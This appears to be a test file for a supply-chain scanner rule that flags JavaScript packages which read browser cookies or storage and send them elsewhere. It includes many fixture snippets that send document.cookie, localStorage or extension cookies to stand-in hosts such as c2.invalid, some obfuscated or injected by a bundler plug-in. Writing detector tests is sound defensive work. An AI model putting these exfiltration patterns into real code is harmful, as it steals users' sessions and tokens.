import { examine } from '../../../test/examine.ts';
import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.ts';

examine(readsBrowserStorageAndSends, {
  speaks: [
    {
      when: 'an extension takes all cookies of a site, for a host whose name is in that of the package by chance alone',
      files: {
        'package.json': { name: 'webext-bridge', version: '1.0.0', main: 'index.js' },
        'index.js': `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const jar = await chrome.cookies.getAll({ url: tab.url }); fetch('https://diag.bridgekit-ext.invalid/report', { method: 'POST', body: JSON.stringify(jar) }); });`,
      },
      weight: 'strong',
    },
    {
      when: 'a plug-in of a bundler writes code that does it into the program that is built',
      files: {
        'index.js': `module.exports = () => ({ name: 'boot', transform(code, id) { if (/main\\.js$/.test(id)) return code + \`;fetch('https://s.invalid/c', { method: 'POST', body: JSON.stringify({ c: document.cookie }) }).catch(() => {});\`; } });`,
      },
      weight: 'strong',
    },
    {
      when: 'a cookie is read in another file when somebody signs in, and something else is sent at import',
      files: {
        'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened' }); exports.signIn = async name => send({ event: 'signed in', user: cookie(name) })`,
        'hub.js': `exports.send = event => fetch('https://statistics.specimen.invalid/track', { method: 'POST', body: JSON.stringify(event) })`,
        'cookies.js': `exports.cookie = name => { let found = null; document.cookie.split(';').forEach(one => { const [key, value] = one.split('='); if (key.trim() === name) found = decodeURIComponent(value) }); return found }`,
      },
      weight: 'context',
    },
    {
      when: 'all cookies go to a host that is put together from numbers, when somebody calls it',
      files: {
        'index.js': `const at = [99, 46, 105, 110, 118, 97, 108, 105, 100]; exports.flush = () => { const img = new Image(); img.src = 'https://' + String.fromCharCode.apply(null, at) + '/p.gif?d=' + encodeURIComponent(document.cookie); };`,
      },
      weight: 'strong',
      says: ['c.invalid'],
    },
    {
      when: 'the same cookie is read and sent at import',
      files: {
        'index.js': `const { send } = require('./hub'); const { cookie } = require('./cookies'); send({ event: 'opened', user: cookie('session') })`,
        'hub.js': `exports.send = event => fetch('https://statistics.specimen.invalid/track', { method: 'POST', body: JSON.stringify(event) })`,
        'cookies.js': `exports.cookie = name => { let found = null; document.cookie.split(';').forEach(one => { const [key, value] = one.split('='); if (key.trim() === name) found = decodeURIComponent(value) }); return found }`,
      },
      weight: 'strong',
    },
    {
      when: 'statistics keep an identifier of a visit under a name that ends in their own word',
      files: {
        'index.js': `const key = globalThis.trackingId() + '_sid', kept = sessionStorage[key] || Date.now(); sessionStorage[key] = kept; navigator.sendBeacon('https://statistics.invalid/collect?sid=' + kept)`,
      },
      weight: 'weak',
    },
    {
      when: 'every entry is taken by its name',
      files: {
        'index.js': `const all = {}; for (const name in sessionStorage) all['s_' + name] = sessionStorage[name]; navigator.sendBeacon('https://statistics.invalid/collect', JSON.stringify(all))`,
      },
      weight: 'strong',
    },
    {
      when: 'cookies go into an address at import',
      files: { 'index.js': `fetch('https://c2.invalid/?c=' + document.cookie)` },
      weight: 'strong',
      says: ['document.cookie'],
    },
    {
      when: 'the whole storage is posted',
      files: { 'index.js': `const x = new XMLHttpRequest(); x.open('POST', 'https://c2.invalid/'); x.send(JSON.stringify(localStorage))` },
      weight: 'strong',
    },
    {
      when: 'one entry is sent at import',
      files: { 'index.js': `navigator.sendBeacon('https://c2.invalid/', localStorage.getItem('token'))` },
      weight: 'weak',
    },
    {
      when: 'the panel of a service sends its entries to the service when it is called',
      files: {
        'package.json': { name: '@acme/panel', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.report = () => fetch(new URL('/seen', 'https://checkpoint.acme.invalid'), { method: 'POST', body: JSON.stringify(localStorage) })`,
      },
      weight: 'context',
    },
    {
      when: 'cookies are sent when called',
      files: { 'index.js': `export const track = () => fetch('https://stats.invalid/', { method: 'POST', body: document.cookie })` },
      weight: 'weak',
    },
    {
      when: 'a picture carries cookies and one entry',
      files: {
        'index.js': `const all = { a: localStorage.getItem('a') }; new Image().src = 'https://pixel.invalid/x.gif?d=' + encodeURIComponent(JSON.stringify({ all, c: document.cookie }))`,
      },
      weight: 'strong',
    },
    {
      when: 'one entry after the other is taken',
      files: {
        'index.js': `const all = {}; for (const key of Object.keys(localStorage)) all[key] = localStorage[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
      },
      weight: 'strong',
    },
    {
      when: 'the cookies and all of the storage are sent when a component is shown',
      files: {
        'index.js': `export class A { shown() { const all = {}; for (let i = 0; i < localStorage.length; i++) all[i] = localStorage.getItem(localStorage.key(i)); new Image().src = 'https://a.invalid/?d=' + JSON.stringify({ all, c: document.cookie }); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'all entries are posted into a frame of somebody, one by one, when a store is made',
      files: {
        'index.js': `const frame = document.createElement('iframe'); frame.hidden = true; frame.src = 'https://hub.specimen.invalid/hub.html'; document.body.append(frame); export function createStore(storage = localStorage) { for (let i = 0; i < storage.length; i++) { const key = storage.key(i); frame.contentWindow.postMessage({ key, value: storage.getItem(key) }, 'https://hub.specimen.invalid'); } return storage; }`,
      },
      weight: 'strong',
      says: ['hub.specimen.invalid'],
    },
    {
      when: 'another file has the frame',
      files: {
        'index.js': `import { Hub } from './hub.js'; let hub; export function open(storage = sessionStorage) { hub ??= new Hub(); hub.copy(storage); }`,
        'hub.js': `const ORIGIN = 'https://hub.specimen.invalid'; export class Hub { constructor() { const frame = document.createElement('iframe'); frame.src = ORIGIN + '/hub.html'; document.body.append(frame); frame.addEventListener('load', () => { this.target = frame.contentWindow; }); } copy(storage) { for (let i = 0; i < storage.length; i++) this.push({ key: storage.key(i), value: storage.getItem(storage.key(i)) }); } push(item) { this.target.postMessage(item, ORIGIN); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'all cookies of a site are told to another',
      files: {
        'index.js': `chrome.cookies.getAll({ domain: 'bank.invalid' }).then(all => fetch('https://stat.invalid/', { method: 'POST', body: JSON.stringify(all) }));`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a cookie says which of two addresses is asked',
      files: {
        'index.js': `const zone = document.cookie.includes('zone=eu') ? 'https://eu.specimen.invalid/settings' : 'https://specimen.invalid/settings'; const asked = new XMLHttpRequest(); asked.open('GET', zone); asked.send();`,
      },
    },
    {
      when: 'a frame of a service is told the theme that is kept',
      files: {
        'index.js': `const frame = document.createElement('iframe'); frame.src = 'https://chat.specimen.invalid/'; document.body.append(frame); export const show = () => frame.contentWindow.postMessage({ theme: localStorage.getItem('theme') }, 'https://chat.specimen.invalid');`,
      },
    },
    {
      when: 'whoever uses it says to whom all entries go',
      files: {
        'index.js': `export function migrate(origin) { const frame = document.createElement('iframe'); frame.src = origin + '/hub.html'; document.body.append(frame); for (let i = 0; i < localStorage.length; i++) frame.contentWindow.postMessage({ key: localStorage.key(i), value: localStorage.getItem(localStorage.key(i)) }, origin); }`,
      },
    },

    {
      when: 'an editor is opened at a place that is kept there',
      files: { 'index.js': `const place = localStorage.getItem('place'); window.location.href = 'vscode://file/' + place;` },
    },
    {
      when: 'a client adds its token when called',
      files: {
        'index.js': `export const get = url => fetch('https://api.invalid/', { headers: { authorization: localStorage.getItem('token') } })`,
      },
    },
    {
      when: 'the caller says where to',
      files: { 'index.js': `export const post = url => fetch(url, { method: 'POST', body: document.cookie })` },
    },
    { when: 'it goes back to its own page', files: { 'index.js': `fetch('/session?' + document.cookie)` } },
    {
      when: 'an extension asks for one cookie by its name, or for those of the site that it tells, when it is called',
      files: {
        'index.js': `exports.one = async () => fetch('https://notes.invalid/', { method: 'POST', body: JSON.stringify(await chrome.cookies.getAll({ name: 'sid' })) }); exports.all = async () => fetch('https://api.notes.invalid/', { method: 'POST', body: JSON.stringify(await chrome.cookies.getAll({ url: 'https://notes.invalid/' })) });`,
      },
    },
  ],
});
